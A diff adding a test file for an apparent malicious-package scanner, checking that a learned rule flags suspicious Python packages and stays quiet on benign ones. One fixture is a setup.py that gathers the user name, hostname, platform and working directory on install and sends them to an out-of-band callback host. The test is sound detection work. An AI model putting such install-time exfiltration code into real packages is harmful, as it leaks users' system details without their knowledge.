@@ -1,0 +1,70 @@
+import { describe, expect, it } from 'vitest'
+import { factsOf } from '../../node/source-facts.test-support.ts'
+import { known, type MetadataFacts } from '../../model/facts.ts'
+import { untrustedText } from '../../base/display.ts'
+import { CONTEXT } from '../artifact-rule.test-support.ts'
+import layer from '../learned-trees.generated.json' with { type: 'json' }
+import { rule } from './learned-suspicion.ts'
+
+const METADATA: MetadataFacts = {
+  file: 'PKG-INFO',
+  metadataVersion: untrustedText('2.1'),
+  name: untrustedText('demo'),
+  version: untrustedText('1.0'),
+  requiresPython: null,
+  requiresDist: [],
+  providesExtra: [],
+  summary: null,
+  homePage: null,
+  projectUrls: [],
+  author: null,
+  authorEmail: null,
+  license: null,
+  classifierCount: 0,
+  descriptionLength: 0,
+  dynamic: [],
+  problems: [],
+}
+
+async function find(files: Record<string, string>): Promise<ReturnType<typeof rule.find>> {
+  const members = Object.keys(files).map((path) => ({ path: untrustedText(path), kind: 'file' as const, size: 100 }))
+  const archive = known({ format: 'tar.gz' as const, members, anomalies: [], unpackedBytes: 100 })
+  return rule.find({ source: known(await factsOf(files)), metadata: known(METADATA), archive }, CONTEXT)
+}
+
+const COLLECTS = `
+import os, socket, getpass, urllib.request, platform
+from setuptools import setup
+
+about = {"u": getpass.getuser(), "h": socket.gethostname(), "p": platform.platform(), "d": os.getcwd()}
+urllib.request.urlopen("https://demo.oast.fun/?" + str(about))
+setup(name="demo", version="1.0")
+`
+
+describe('the learned layer', () => {
+  it('warns of what collects and calls on its own, with the facts that spoke and their lines', async () => {
+    const [sighting, ...others] = (await find({ 'demo-1.0/setup.py': COLLECTS })) ?? []
+    expect(others).toEqual([])
+    expect(sighting?.message).toMatch(/^looks like known malware to the learned layer \(score \d+\.\d of at least [\d.]+\): \S/)
+    expect(sighting?.place.file).toBe('demo-1.0/setup.py')
+    expect(sighting?.evidence?.length).toBeGreaterThan(0)
+  })
+
+  it('says nothing of a package without metadata that asks a service when it is called', async () => {
+    const client = 'import requests\n\ndef status(url):\n    return requests.get(url, timeout=5).json()\n'
+    expect(await find({ 'demo-1.0/demo/__init__.py': client, 'demo-1.0/setup.py': 'from setuptools import setup\nsetup()\n' })).toEqual([])
+  })
+
+  it('says nothing of an empty package', async () => {
+    expect(await find({ 'demo-1.0/demo/__init__.py': '' })).toEqual([])
+  })
+
+  it('was measured on families that it never saw, with a seed', () => {
+    expect(layer.measured).toMatchObject({ familiesByTheLayer: expect.any(Number) as number, benignByTheLayer: expect.any(Number) as number })
+    expect([layer.seed, layer.measured.benignByTheLayer < 1]).toEqual([1, true])
+  })
+
+  it('only ever warns', () => {
+    expect([rule.effect, rule.isRaisedByStrict, rule.isOutsideTheSum]).toEqual(['warn', false, true])
+  })
+})
